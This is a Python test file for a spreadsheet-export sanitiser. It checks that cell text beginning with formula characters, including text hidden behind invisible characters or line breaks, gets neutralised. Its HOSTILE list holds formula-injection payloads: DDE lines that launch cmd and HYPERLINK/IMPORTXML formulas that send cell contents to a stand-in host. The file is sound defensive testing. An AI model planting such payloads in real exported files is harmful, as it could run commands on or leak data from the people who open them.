import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.export.cells import harmless, write_table

UNSEEN = ["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u2003\u2060", "\x00", "\u00ad", "\u202e"]
STARTS = ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"]
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\x1e"]
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?x="&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
ODD = [*"=+-@ \t\r\n'\";,|x", *(each for each in [*UNSEEN, *BREAKS, *STARTS] if len(each) == 1)]
texts = st.text(alphabet=st.one_of(st.sampled_from(ODD), st.characters()))


def live(line):
    """By a rule of its own: what is seen first, when all that is not printed has been left out, starts a formula."""
    rest = "".join(each for each in line if each == "\t" or (each.isprintable() and not each.isspace()))
    return rest.startswith(("=", "+", "-", "@", "\t"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text):
    assert harmless(text).startswith("'")
    assert not any(map(live, re.split(r"[\n\r]", harmless(text))))


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("before", UNSEEN)
def test_what_is_not_seen_before_a_formula_does_not_hide_it(before, start):
    assert harmless(f"{before}{start}1+1").startswith("'")


@pytest.mark.parametrize("cut", BREAKS)
def test_each_line_of_a_cell_counts(cut):
    assert harmless(f"I think{cut}=1+1{cut}so") == "I think\n'=1+1\nso"
    assert harmless(f"{cut}=1+1") == "'\n'=1+1"


def test_what_is_harmless_stays_as_it_is():
    for text in ["", "I disagree = no", "a-b", "(=1)", "it's 3 - 2", "1.5", "Grüße 🙂\nnext line", "'=1"]:
        assert harmless(text) == text


def test_what_no_file_can_hold_is_replaced():
    assert harmless("a\ud800b\x00c") == "a\ufffdb\ufffdc"


@given(texts)
def test_no_line_is_live_and_twice_is_once(text):
    safe = harmless(text)
    assert not safe.startswith(("\n", "\r", "\t"))
    assert not any(map(live, re.split("[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]", safe)))
    assert harmless(safe) == safe
    assert safe.encode("utf-8").decode("utf-8") == safe


@given(st.lists(st.tuples(texts, st.integers() | st.none(), texts), max_size=4))
def test_a_table_reads_back_cell_for_cell_with_any_delimiter_inside(rows):
    file = io.StringIO(newline="")
    assert write_table(file, ["one", "number", "two"], rows) == len(rows)
    read = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert read[0] == ["one", "number", "two"]
    assert read[1:] == [[harmless(a), "" if n is None else str(n), harmless(b)] for a, n, b in rows]
    assert all(line.startswith('"') for line in re.split(r'(?<=")\n(?=")', file.getvalue()))


def test_a_number_stays_a_number_and_a_long_text_fits_a_cell():
    file = io.StringIO(newline="")
    write_table(file, ["score", "text"], [(-0.25, "x" * 40_000), (-3, "-3")])
    first, second = list(csv.reader(io.StringIO(file.getvalue())))[1:]
    assert first == ["-0.25", "x" * 32_000 + " […]"]
    assert second == ["-3", "'-3"]
